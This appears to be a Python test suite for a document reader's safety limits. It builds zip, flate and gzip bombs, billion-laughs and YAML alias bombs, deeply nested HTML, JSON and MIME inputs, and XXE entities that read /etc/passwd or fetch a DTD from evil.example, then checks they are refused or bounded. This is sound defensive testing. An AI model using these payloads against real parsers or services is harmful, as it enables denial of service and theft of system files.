"""Files made to hang, crash or fill a reader: survived, named, and the others are read."""

import gzip
import io
import resource
import zipfile
import zlib

import pytest

from audit.readers import Limits
from audit.readers.guard import _Worker

WORDS = "The harbour office opens at seven, and the kettle is on from a quarter to.\n"
QUICK = Limits(seconds=1)
MEGABYTE = 1 << 20
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def bomb(size: int) -> bytes:
    """Return a raw deflate stream of *size* zero bytes."""
    packer = zlib.compressobj(9)
    out = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(size // MEGABYTE))
    return out + packer.flush()


def pdf(contents: bytes, pages: str = "<</Type/Pages/Count 1/Kids[3 0 R]>>") -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    stream = (
        b"<</Filter/FlateDecode/Length %d>>stream\n" % len(contents) + contents + b"\nendstream"
    )
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", pages.encode(), page, stream]
    out = b"%PDF-1.7\n"
    for number, body in enumerate(objects, 1):
        out += b"%d 0 obj" % number + body + b"endobj\n"
    return out + b"trailer<</Root 1 0 R/Size 5>>\n%%EOF\n"


def docx(zipped, document: bytes | str) -> bytes:
    return zipped(("[Content_Types].xml", "<x/>"), ("word/document.xml", document))


def big_member(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("good.txt", WORDS)
        with archive.open("bomb.txt", "w") as member:
            for _ in range(size // MEGABYTE):
                member.write(bytes(MEGABYTE))
        archive.writestr("last.txt", WORDS)
    return out.getvalue()


def warc(body: bytes, length: int) -> bytes:
    head = (
        "WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: https://a.example/\r\n"
        f"WARC-Date: 2024-07-24T10:00:00Z\r\nContent-Type: text/plain\r\n"
        f"Content-Length: {length}\r\n\r\n"
    )
    return head.encode() + body


def test_flate_bomb_in_a_pdf(unfold, said):
    item = unfold("a.pdf", pdf(bomb(100 * MEGABYTE)), QUICK)["a.pdf"]
    assert item.document is None
    assert said(item)


@pytest.mark.parametrize(
    "pages",
    [
        "<</Type/Pages/Count 2000000000/Kids[2 0 R]>>",
        "<</Type/Pages/Count 2000000000/Kids[3 0 R]>>",
        "<</Type/Pages/Count 1/Kids[2 0 R 2 0 R]/Parent 2 0 R>>",
    ],
)
def test_page_trees_without_end(pages, unfold):
    item = unfold("a.pdf", pdf(zlib.compress(b"BT ET"), pages), QUICK)["a.pdf"]
    assert item.problems or item.document


def test_docx_that_unpacks_to_hundreds_of_megabytes(unfold, zipped, said):
    body = b"<w:document xmlns:w='%s'><w:body>" % W.encode() + b" " * (80 * MEGABYTE)
    item = unfold("a.docx", docx(zipped, body), QUICK)["a.docx"]
    assert said(item) == ["member 'word/document.xml': unpacks to more than 100 times its size"]


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = [
    f'<!DOCTYPE d [<!ENTITY a0 "lol">{ENTITIES}]><d>&a9;</d>',
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
    '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><d/>',
]


@pytest.mark.parametrize("text", DOCTYPES)
def test_entities_are_refused(text, unfold, zipped, said):
    text = f'<?xml version="1.0"?>{text}'
    for name, data in (("a.xml", text.encode()), ("a.docx", docx(zipped, text))):
        item = unfold(name, data, QUICK)[name]
        assert said(item) == ["a DOCTYPE with declarations of its own; refused"]


def test_xml_too_deep(unfold, said):
    data = b"<?xml version='1.0'?>" + b"<a>" * 100_000
    assert said(unfold("a.xml", data, QUICK)["a.xml"]) == ["elements nested deeper than 100"]


def test_a_gigabyte_in_a_record_of_a_warc(unfold, said):
    out = io.BytesIO()
    size = 100 * MEGABYTE
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1) as packed:
        packed.write(warc(b"", size))
        for _ in range(100):
            packed.write(bytes(MEGABYTE))
        packed.write(b"\r\n\r\n")
    data = out.getvalue() + gzip.compress(warc(WORDS.encode(), len(WORDS)) + b"\r\n\r\n")
    found = unfold("a.warc.gz", data)
    assert "over the limit of 64,000,000 bytes" in said(found["a.warc.gz"])[0]
    assert found["a.warc.gz!/https://a.example/"].document.text == WORDS


@pytest.mark.parametrize("cut", [10, 60, 200])
def test_warcs_that_are_torn_or_packed_in_one(cut, unfold):
    record = warc(WORDS.encode(), len(WORDS)) + b"\r\n\r\n"
    whole = unfold("a.warc.gz", gzip.compress(record * 3))
    assert len(whole) == 4
    assert whole["a.warc.gz"].problems
    assert unfold("a.warc.gz", gzip.compress(record)[:-cut])["a.warc.gz"].state
    assert unfold("a.warc", record[:-cut])["a.warc"].state


HTML = [
    "<div>" * 100_000 + WORDS,
    "<div " + "a=b " * 200_000 + ">" + WORDS,
    "<!--" * 200_000 + WORDS,
    "<a " * 200_000 + WORDS,
    "<script>" * 50_000 + WORDS,
    "&" * 500_000 + WORDS,
]


@pytest.mark.parametrize("page", HTML, ids=range(len(HTML)))
def test_pages_that_are_quadratic_elsewhere(page, unfold):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    item = unfold("a.html", f"<html><body>{page}".encode())["a.html"]
    assert item.document or item.problems
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - before < 5


def test_aliases_in_front_matter(unfold, claims):
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [{f'*a{n - 1}, ' * 9}]" for n in range(1, 20)]
    data = "---\n" + "\n".join(lines) + f"\ntitle: *a19\n---\n{WORDS}"
    item = unfold("a.md", data.encode())["a.md"]
    assert item.document.text.strip() == WORDS.strip()


def nested(depth: int) -> bytes:
    heads = (f'Content-Type: multipart/mixed; boundary="{n}"\n\n--{n}\n' for n in range(depth))
    return b"MIME-Version: 1.0\n" + "".join(heads).encode() + b"\nwords\n"


MESSAGES = [
    b"MIME-Version: 1.0\nFrom: " + b"(" * 5_000 + b"\n\nwords\n",
    b"MIME-Version: 1.0\nFrom: " + b"a@b.example, " * 20_000 + b"\n\nwords\n",
    b"MIME-Version: 1.0\n" + b"X: y\n" * 100_000 + b"\nwords\n",
    nested(3_000),
    nested(400),
    b"MIME-Version: 1.0\nSubject: " + b"=?utf-8?q?x?= " * 20_000 + b"\n\nwords\n",
    b"MIME-Version: 1.0\nContent-Type: text/plain; " + b"a*0=b; " * 20_000 + b"\n\nwords\n",
]


@pytest.mark.parametrize("data", MESSAGES, ids=range(len(MESSAGES)))
def test_messages_that_are_too_deep_or_too_long(data, unfold):
    item = unfold("a.eml", data, QUICK)["a.eml"]
    assert item.problems or "words" in item.document.text


def test_zip_bomb_stops_nobody_else(unfold, said):
    found = unfold("a.zip", big_member(100 * MEGABYTE), QUICK)
    assert set(found) == {"a.zip", "a.zip!/good.txt", "a.zip!/last.txt"}
    assert said(found["a.zip"]) == ["member 'bomb.txt': unpacks to more than 100 times its size"]


def test_overlapping_members_of_a_zip(unfold, said):
    """Many members that share their bytes unpack to what the budget allows, not more."""
    data = big_member(MEGABYTE)
    members = [data] * 8
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, member in enumerate(members):
            archive.writestr(f"{number}.zip", member)
    found = unfold("a.zip", out.getvalue(), Limits(unpacked=3 * MEGABYTE))
    messages = [message for item in found.values() for message in said(item)]
    assert any("unpacks to more than 3,145,728 bytes" in message for message in messages)


def test_deep_json(unfold):
    for data in (b"[" * 200_000, b'{"a":' * 100_000, b'{"text": "x", "b": ' + b"[" * 100_000):
        item = unfold("a.json", data, QUICK)["a.json"]
        assert item.document or item.problems


def test_peak_memory_of_the_reading_process_is_bounded():
    """The children that were waited for, all attacks of this file among them."""
    if _Worker.current:
        _Worker.current.end()
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert peak * 1024 <= Limits().memory
